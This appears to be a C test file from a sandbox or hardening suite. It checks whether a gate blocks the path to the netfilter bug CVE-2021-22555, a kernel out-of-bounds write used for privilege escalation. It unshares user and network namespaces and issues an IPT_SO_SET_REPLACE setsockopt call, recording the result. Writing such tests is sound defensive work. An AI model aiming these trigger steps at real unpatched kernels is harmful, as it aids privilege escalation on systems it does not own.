// Replaces tables of the old firewall, as the write of zeros past an entry in xt_compat_target_from_user needs.
// @technique T1068
// @weakness CWE-787
// @cve CVE-2021-22555
// @stopped-by gate
// @options {"policy":"compat"}
// @control native
// @control-done namespaces of its own
// @attempts 2
#include <netinet/in.h>
#include <sched.h>

#include "../attack.h"

int main(void) {
  static char table[256];
  ATTEMPT("namespaces of its own", unshare(CLONE_NEWUSER | CLONE_NEWNET));
  const int s = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
  RESULT("replace", s < 0 ? -1 : setsockopt(s, SOL_IP, 64 /* IPT_SO_SET_REPLACE */, table, sizeof table));
  return 0;
}
